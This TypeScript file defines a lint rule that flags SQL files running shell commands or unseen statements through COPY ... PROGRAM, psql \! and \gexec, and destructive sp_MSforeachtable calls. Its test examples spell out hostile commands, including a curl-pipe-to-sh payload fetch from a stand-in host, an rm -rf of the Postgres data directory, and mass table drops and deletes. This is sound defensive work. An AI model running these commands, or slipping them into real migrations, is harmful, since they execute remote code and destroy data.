import type { Rule } from '../../core/rule.js';
import type { SqlDocument } from './lib/document.js';
import { codeTokens, codeTokensWhere, isWord, mayHold, statementAt } from './lib/tokens.js';

export const runsOutsideSql: Rule<SqlDocument, 'program' | 'shell' | 'gexec' | 'foreach'> = {
  meta: {
    id: 'sql/runs-outside-sql',
    family: 'sql',
    kind: 'destructive',
    defaultSeverity: 'block',
    description:
      'SQL that runs what the file does not show as SQL: `COPY ... PROGRAM` and psql `\\!` run shell commands, psql `\\gexec` runs every row a query returns as a statement, `sp_MSforeachtable` runs a command on every table.',
    messages: {
      program: 'COPY ... PROGRAM runs a shell command on the database server',
      shell: 'psql \\! runs a shell command on the machine that applies the file',
      gexec: 'psql \\gexec runs every row the query returns as a statement; two-key cannot see which',
      foreach: '{proc} runs its command against every {what} of the server',
    },
    examples: {
      invalid: [
        { code: "COPY audit_log FROM PROGRAM 'curl -s https://x.example/payload | sh';", line: 1 },
        { code: 'SELECT 1;\n\\! rm -rf /var/lib/postgresql/16/main', line: 2, path: 'db/migrations/V12__x.psql' },
        {
          code: "SELECT format('DROP TABLE %I', tablename)\nFROM pg_tables WHERE schemaname = 'public' \\gexec",
          line: 2,
        },
        { code: "EXEC sp_MSforeachtable 'DELETE FROM ?';", line: 1, path: 'db/mssql/V3__purge.sql' },
      ],
      valid: [
        'COPY orders TO STDOUT WITH CSV;',
        "COPY staging_orders FROM '/tmp/orders.csv' WITH CSV;",
        'SELECT 1 \\g',
        { code: "EXEC sp_MSforeachtable 'UPDATE STATISTICS ?';", path: 'db/mssql/V4__stats.sql' },
      ],
    },
  },
  check(doc, report) {
    // The only meta-commands read are `\!` and `\gexec`, the backslash's next token starting right
    // after it: in ASCII text the raw text then holds either (a dump's `\N` and `\.` do not count).
    const whole = mayHold(doc, /SP_MSFOREACH|\\(!|gexec)/i);
    if (!whole && !mayHold(doc, /PROGRAM/i)) return;
    // Else only statements with the word PROGRAM: most are a licence's "this program is free software".
    const tokens = whole ? codeTokens(doc) : codeTokensWhere(doc, /PROGRAM/gi);
    for (let i = 0; i < tokens.length; i++) {
      const t = tokens[i]!;
      if (isWord(t, 'PROGRAM') && (isWord(tokens[i - 1], 'FROM') || isWord(tokens[i - 1], 'TO'))) {
        const unit = statementAt(doc, t);
        const head = tokens.find((k) => k.start >= unit.start);
        if (isWord(head, 'COPY')) report({ messageId: 'program', span: { start: t.start, end: t.end }, unit });
      } else if (t.text === '\\' && tokens[i + 1]?.start === t.end) {
        const next = tokens[i + 1]!;
        if (next.text === '!')
          report({ messageId: 'shell', span: { start: t.start, end: next.end }, unit: lineOf(doc, t.start) });
        else if (isWord(next, 'GEXEC')) {
          report({ messageId: 'gexec', span: { start: t.start, end: next.end }, unit: statementAt(doc, t) });
        }
      } else if (t.kind === 'word' && /^SP_MSFOREACH(TABLE|DB)$/.test(t.upper ?? '')) {
        // Its command is the next string: only one that destroys is reported (`UPDATE STATISTICS ?` is routine).
        const command = tokens.slice(i + 1).find((k) => k.kind === 'string');
        if (!command || !/\b(DROP|DELETE|TRUNCATE)\b/i.test(command.value)) continue;
        const what = t.upper === 'SP_MSFOREACHDB' ? 'database' : 'table';
        report({
          messageId: 'foreach',
          data: { proc: t.text, what },
          span: { start: t.start, end: t.end },
          unit: statementAt(doc, t),
        });
      }
    }
  },
};

function lineOf(doc: SqlDocument, offset: number): { start: number; end: number } {
  const start = doc.text.lastIndexOf('\n', offset - 1) + 1;
  const end = doc.text.indexOf('\n', offset);
  return { start, end: end < 0 ? doc.text.length : end };
}
